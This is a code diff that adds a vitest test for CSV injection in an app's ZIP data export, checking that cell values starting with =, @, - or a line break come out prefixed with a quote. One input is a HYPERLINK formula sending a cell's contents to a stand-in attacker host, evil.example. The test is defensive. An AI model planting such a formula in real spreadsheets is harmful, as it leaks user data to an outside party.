@@ -1,4 +1,5 @@
 import { unzipSync } from "fflate";
+import Papa from "papaparse";
 import { beforeAll, describe, expect, test } from "vitest";
 import { hourMs } from "#core/time.ts";
 import { type TestApp, testApp } from "#testing/app/test-app.ts";
@@ -64,6 +65,35 @@ describe("AC-04 the export of all data as a ZIP", () => {
     expect(files["produtos.csv"]?.includes(`"'=Produto 7"`)).toBe(true);
     expect(JSON.parse(files["assinaturas.json"] ?? "")).toHaveLength(1);
     expect(Object.values(files).join("")).not.toContain("argon2");
+  });
+
+  test("no text of the CSV is a formula, also one with line breaks", async () => {
+    const ana = await createAccount(app);
+    const now = app.clock.now();
+    const texts = [
+      '=HYPERLINK("https://evil.example/?x="&A1)\nsegunda linha',
+      "\n=1+1",
+      "-2+3",
+      "@A1",
+      "-5,25",
+    ];
+    await app.db.product.createMany({
+      data: texts.map((notes) => ({
+        userId: ana.userId,
+        name: "Kit",
+        notes,
+        createdAt: now,
+        updatedAt: now,
+      })),
+    });
+    await orderAndMake(ana);
+    const { data } = Papa.parse<{ notes: string }>((await downloadedBy(ana))["produtos.csv"] ?? "", {
+      header: true,
+      delimiter: ";",
+      skipEmptyLines: true,
+    });
+    const written = texts.map((text) => (text === "-5,25" ? text : `'${text}`));
+    expect(data.map(({ notes }) => notes).sort()).toEqual(written.sort());
   });
 
   test("has nothing of another seller", async () => {
